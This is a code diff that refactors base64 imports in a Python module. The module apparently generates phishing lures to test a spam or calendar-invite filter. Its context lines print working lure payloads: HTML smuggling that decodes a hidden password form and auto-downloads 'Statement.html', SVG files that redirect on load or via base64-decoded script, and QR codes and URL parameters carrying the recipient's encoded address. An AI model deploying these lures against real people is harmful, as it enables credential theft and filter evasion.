@@ -1,8 +1,8 @@
 """Tuned spam: the lures themselves. Attacks 1, 8, 17, 28, 34 to 41."""
-import ical
+import base64
+
 import mail as M
 import mime
-import people
 import qr
 import shapes as S
 from families import bad_link, fill, tuned
@@ -37,7 +37,6 @@ def hidden_html(m):
 
 
 def image_html(m):
-    import base64
     shots = "".join('<img alt="%s" src="data:image/png;base64,%s">' % (m.rcpt.domain, base64.b64encode(qr.picture(m.r, 24, 16)).decode()) for _ in range(m.r.randint(35, 51)))
     return fill(m, '<html><body><a href="{link}">%s</a></body></html>' % shots)
 
@@ -52,7 +51,6 @@ def login_html(m):
 # --- 36: QR --------------------------------------------------------------------------------------------------------------
 
 def qr_url(m):
-    import base64
     who = m.r.choice((m.rcpt.addr, base64.b64encode(m.rcpt.addr.encode()).decode().rstrip("=")))
     return m.values["link"] + m.r.choice(("?e=", "#", "?u=")) + who
 
@@ -66,12 +64,10 @@ def qr_inline(m):
 
 
 def qr_altdesc(m):
-    import base64
     m.ev.altdesc = '<html><body>%s<img src="data:image/png;base64,%s"></body></html>' % (M.html_of(m.text), base64.b64encode(qr.qr_png(qr_url(m), "L", 3)).decode())
 
 
 def qr_attach(m):
-    import base64
     m.ev.extra = m.ev.extra + ["ATTACH;FMTTYPE=image/png;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=scan-me.png:" + base64.b64encode(qr.qr_png(qr_url(m), "M", 3)).decode()]
 
 
@@ -79,7 +75,6 @@ def qr_attach(m):
 
 def binary(name, ctype, make):
     def do(m):
-        import base64
         data = fill(m, make(m)) if isinstance(make(m), str) else make(m)
         data = data.encode() if isinstance(data, str) else data
         m.ev.extra = m.ev.extra + ["ATTACH;FMTTYPE=%s;ENCODING=BASE64;VALUE=BINARY;FILENAME=%s:%s" % (ctype, fill(m, name), base64.b64encode(data).decode())]
@@ -87,7 +82,6 @@ def binary(name, ctype, make):
 
 
 def smuggle(m):
-    import base64
     inner = base64.b64encode(fill(m, "<form action='{link}'><input name=p type=password value=''>{rcpt}</form>").encode()).decode()
     return ("<html><body><script>var p='%s';document.write(atob(p));</script></body></html>" % inner,
             "<html><script>const b=Uint8Array.from(atob('%s'),c=>c.charCodeAt(0));const a=document.createElement('a');a.href=URL.createObjectURL(new Blob([b]));a.download='Statement.html';a.click()</script></html>" % inner,
@@ -96,7 +90,7 @@ def smuggle(m):
 
 def svg(m):
     return fill(m, ("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.location.href='{link}#{rcpt}'\"><rect width=\"100\" height=\"40\" fill=\"#06c\"/></svg>",
-                    "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script type=\"text/javascript\"><![CDATA[var u=atob('%s');location=u]]></script></svg>" % __import__("base64").b64encode(m.values["link"].encode()).decode())[m.i % 2])
+                    "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script type=\"text/javascript\"><![CDATA[var u=atob('%s');location=u]]></script></svg>" % base64.b64encode(m.values["link"].encode()).decode())[m.i % 2])
 
 
 def ole(m):
@@ -258,7 +252,6 @@ FAMILIES = [
 
 def split_params(m):
     """The recipient's address in base64, cut over several parameters."""
-    import base64
     text = base64.b64encode(m.rcpt.addr.encode()).decode().rstrip("=")
     n = max(4, len(text) // m.r.randint(3, 5))
     cut = [text[i:i + n] for i in range(0, len(text), n)]
